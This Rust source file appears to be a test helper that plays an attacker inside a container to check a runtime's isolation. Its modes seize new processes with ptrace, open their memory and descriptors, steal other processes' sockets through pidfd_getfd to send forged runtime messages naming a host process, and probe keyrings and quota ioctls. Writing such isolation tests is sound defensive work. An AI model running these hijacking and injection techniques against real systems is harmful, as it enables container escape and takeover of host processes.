//! What an attacker in a container runs. Speaks on standard output, a line for each find.
//!
//! `trace [PATH]`: goes for every process that appears in its process namespace, before its program
//! begins: tries to take it over, to open its memory, to look at its descriptors, to find PATH, which is
//! on the host only, below its root. Whoever still is the runtime's program is a find. Ends when its
//! standard input does.
//!
//! `meddle PID`: takes the sockets of every process that appears there, and says through them what the
//! runtime's processes say to each other: that PID, a process of the host, is the one that was made, and
//! that a directory is what was asked for. Ends when its standard input does.
//!
//! `without-users PROGRAM [ARGUMENT…]`: becomes a program that cannot make user namespaces.
//!
//! `root`: as whom it runs. Ends when its standard input does.
//!
//! `keyring`: the number of its session's keyring, or of what stands for one.
//!
//! `join NAME`: the number of the session keyring called so, after an attempt to join it.
//!
//! `project`: the error number of each way to change whose quota the root directory counts against, and
//! of one that only asks.

use std::collections::BTreeSet;
use std::io::{IoSlice, Read, Write};
use std::mem::MaybeUninit;
use std::os::fd::{AsFd, AsRawFd, BorrowedFd, FromRawFd, OwnedFd};
use std::path::Path;

use rustix::net::{SendAncillaryBuffer, SendAncillaryMessage, SendFlags, sendmsg};

fn main() {
    match std::env::args().nth(1).as_deref() {
        Some("trace") => trace(std::env::args().nth(2).as_deref()),
        Some("meddle") => {
            let victim = std::env::args().nth(2).and_then(|text| text.parse().ok());
            meddle(victim.expect("the number of a process"));
        }
        Some("without-users") => without_users(),
        Some("keyring") => {
            const KEYCTL_GET_KEYRING_ID: i32 = 0;
            const KEY_SPEC_SESSION_KEYRING: i32 = -3;
            // SAFETY: numbers only; nothing is made that is not there.
            let keyring = unsafe {
                libc::syscall(libc::SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0)
            };
            println!("{keyring}");
        }
        Some("join") => {
            const KEYCTL_JOIN_SESSION_KEYRING: i32 = 1;
            let name = std::env::args().nth(2).expect("the name of a keyring");
            let name = std::ffi::CString::new(name).expect("a name without null");
            // SAFETY: the name ends with null and lives through the call.
            let keyring =
                unsafe { libc::syscall(libc::SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, name.as_ptr()) };
            println!("{keyring}");
        }
        Some("project") => project(),
        Some("root") => {
            // SAFETY: takes nothing and touches no memory.
            println!("{}", unsafe { libc::geteuid() });
            while !ended() {
                std::thread::sleep(std::time::Duration::from_millis(20));
            }
        }
        _ => panic!(
            "usage: gantry-attacker trace [PATH]|meddle PID|without-users PROGRAM|root|keyring|project|join NAME"
        ),
    }
}

fn project() {
    use std::os::fd::AsRawFd;
    const GET: u64 = 0x801c_581f;
    const SET: u64 = 0x401c_5820;
    const GET_FLAGS: u64 = 0x8008_6601;
    const SET_FLAGS: u64 = 0x4008_6602;
    const SET_FLAGS_32: u64 = 0x4004_6602;
    const SET_ATTRIBUTES: i64 = 469;
    let root = std::fs::File::open("/").expect("open the root");
    let mut buffer = [0u32; 16];
    let address = buffer.as_mut_ptr();
    let errno = |result: i64| {
        if result == 0 { 0 } else { std::io::Error::last_os_error().raw_os_error().unwrap_or(0) }
    };
    // What is above 32 bits is nothing to the kernel.
    for request in [GET, SET, SET | 7 << 32, SET_FLAGS, SET_FLAGS_32, GET_FLAGS] {
        // SAFETY: the buffer is larger than what any of these reads or writes.
        let result = unsafe { libc::syscall(libc::SYS_ioctl, root.as_raw_fd(), request, address) };
        println!("{request:#x} {}", errno(result));
    }
    // SAFETY: the path ends with null, and no more is read than the buffer has.
    let result =
        unsafe { libc::syscall(SET_ATTRIBUTES, root.as_raw_fd(), c"".as_ptr(), address, 28, 0x1000) };
    println!("attributes {}", errno(result));
    // SAFETY: asks how quotas are kept; the kernel writes less than the buffer has.
    let result = unsafe {
        libc::syscall(libc::SYS_quotactl_fd, root.as_raw_fd(), 0x0058_0502, 0, [0u64; 32].as_mut_ptr())
    };
    println!("quota {}", errno(result));
}

/// Whether standard input has ended.
fn ended() -> bool {
    let mut poll = libc::pollfd { fd: 0, events: libc::POLLIN, revents: 0 };
    // SAFETY: one record, which lives through the call.
    let ready = unsafe { libc::poll(&raw mut poll, 1, 0) } > 0;
    ready && std::io::stdin().read(&mut [0u8; 1]).is_ok_and(|count| count == 0)
}

fn trace(path: Option<&str>) {
    let own = std::fs::read_link("/proc/self/exe").expect("read its own program's name");
    let mut highest = std::process::id() as i32;
    let mut done = BTreeSet::new();
    println!("ready");
    while !ended() {
        // Numbers are given in order: who comes next is known before it is there. Who could not be
        // taken over is tried again: it may have given up what protects it.
        for pid in highest - 3..highest + 5 {
            if pid <= 1 || done.contains(&pid) {
                continue;
            }
            if seize(pid) {
                look(pid, "seized", &own, path);
                // SAFETY: numbers only; the process is this one's tracee.
                unsafe { libc::ptrace(libc::PTRACE_DETACH, pid, 0, 0) };
                done.insert(pid);
                highest = highest.max(pid);
            } else if Path::new(&format!("/proc/{pid}")).exists() {
                look(pid, "looked", &own, path);
                highest = highest.max(pid);
            }
        }
    }
}

/// Takes a process over and stops it.
fn seize(pid: i32) -> bool {
    // SAFETY: numbers only.
    if unsafe { libc::ptrace(libc::PTRACE_SEIZE, pid, 0, 0) } != 0 {
        return false;
    }
    // SAFETY: numbers only, and a status that is not asked for.
    unsafe {
        libc::ptrace(libc::PTRACE_INTERRUPT, pid, 0, 0);
        libc::waitpid(pid, std::ptr::null_mut(), libc::__WALL);
    }
    true
}

/// Tells of a process whose program has not begun yet: how it was reached and what it holds.
fn look(pid: i32, how: &str, own: &Path, path: Option<&str>) {
    let Ok(program) = std::fs::read_link(format!("/proc/{pid}/exe")) else { return };
    if program.ends_with("busybox") || program == own {
        return;
    }
    let memory = std::fs::File::options().read(true).write(true).open(format!("/proc/{pid}/mem")).is_ok();
    let descriptors: Vec<String> = std::fs::read_dir(format!("/proc/{pid}/fd"))
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|entry| std::fs::read_link(entry.path()).ok())
        .map(|target| target.display().to_string())
        .collect();
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let of = |name: &str| {
        status.lines().find_map(|line| line.strip_prefix(name)).map(str::trim).unwrap_or("?").to_owned()
    };
    let root = std::fs::read_link(format!("/proc/{pid}/root")).unwrap_or_default();
    let host = path.is_some_and(|path| Path::new(&format!("/proc/{pid}/root{path}")).exists());
    println!(
        "{how} {} memory={memory} host={host} user={} capabilities={} filter={} root={} descriptors={}",
        program.display(),
        of("Uid:").split_whitespace().next().unwrap_or("?"),
        of("CapPrm:"),
        of("Seccomp:"),
        root.display(),
        descriptors.join(","),
    );
    let _ = std::io::stdout().flush();
}

/// Speaks for every process that appears.
fn meddle(victim: u32) {
    let own = std::process::id() as i32;
    let mut turn = 0;
    let mut highest = own;
    let directory = std::fs::File::open("/").expect("open the root");
    println!("ready");
    while !ended() {
        let there = std::fs::read_dir("/proc").into_iter().flatten().flatten();
        let there = there.filter_map(|entry| entry.file_name().to_str()?.parse::<i32>().ok());
        highest = there.max().unwrap_or(0).max(highest);
        for pid in (highest - 2..highest + 4).filter(|pid| *pid > 1 && *pid != own) {
            // SAFETY: numbers only; the kernel opens a new descriptor for us, or none.
            let process = unsafe { libc::syscall(libc::SYS_pidfd_open, pid, 0) } as i32;
            if process < 0 {
                continue;
            }
            // SAFETY: nobody else knows it.
            let process = unsafe { OwnedFd::from_raw_fd(process) };
            for number in 3..100 {
                // SAFETY: as above.
                let taken =
                    unsafe { libc::syscall(libc::SYS_pidfd_getfd, process.as_raw_fd(), number, 0) } as i32;
                if taken < 0 {
                    continue;
                }
                // SAFETY: as above.
                let taken = unsafe { OwnedFd::from_raw_fd(taken) };
                if speak(&taken, victim, directory.as_fd(), turn) {
                    turn += 1;
                    println!("spoke");
                    let _ = std::io::stdout().flush();
                }
            }
        }
    }
}

/// Says one of the things that can be said through a socket, another one each `turn`; whether it is one.
fn speak(socket: &OwnedFd, victim: u32, directory: BorrowedFd<'_>, turn: usize) -> bool {
    if rustix::net::sockopt::socket_type(socket).is_err() {
        return false;
    }
    let [a, b, c, d] = victim.to_ne_bytes();
    let messages: [&[u8]; 8] = [&[b'P', a, b, c, d], b"C", b"T", b"E", b"H", b"X", b"F\0\0\0\0\0no", b""];
    let message = messages[turn % messages.len()];
    let mut space = [MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(1))];
    let mut control = SendAncillaryBuffer::new(&mut space);
    let fds = [directory];
    // What is asked for from inside is a context, what a terminal is handed out by is a file.
    if message == b"C" || message == b"T" {
        control.push(SendAncillaryMessage::ScmRights(&fds));
    }
    let flags = SendFlags::NOSIGNAL | SendFlags::DONTWAIT;
    sendmsg(socket, &[IoSlice::new(message)], &mut control, flags).is_ok()
}

/// Becomes another program, which may not make user namespaces.
fn without_users() {
    use std::os::unix::process::CommandExt;
    let line = |code, jump_true, jump_false, value| libc::sock_filter {
        code,
        jt: jump_true,
        jf: jump_false,
        k: value,
    };
    let number = u32::try_from(libc::SYS_unshare).expect("a small number");
    let mut filter = [
        line(0x20, 0, 0, 0),
        line(0x15, 0, 3, number),
        line(0x20, 0, 0, 16),
        line(0x45, 0, 1, libc::CLONE_NEWUSER as u32),
        line(0x06, 0, 0, 0x0005_0000 | libc::ENOSPC as u32),
        line(0x06, 0, 0, 0x7fff_0000),
    ];
    let program = libc::sock_fprog { len: filter.len() as u16, filter: filter.as_mut_ptr() };
    // SAFETY: the program is whole and lives through the call, which only reads it.
    let loaded = unsafe { libc::syscall(libc::SYS_seccomp, 1, 0, &raw const program) };
    assert_eq!(loaded, 0, "{}", std::io::Error::last_os_error());
    let mut args = std::env::args_os().skip(2);
    let error = std::process::Command::new(args.next().expect("a program")).args(args).exec();
    panic!("{error}");
}
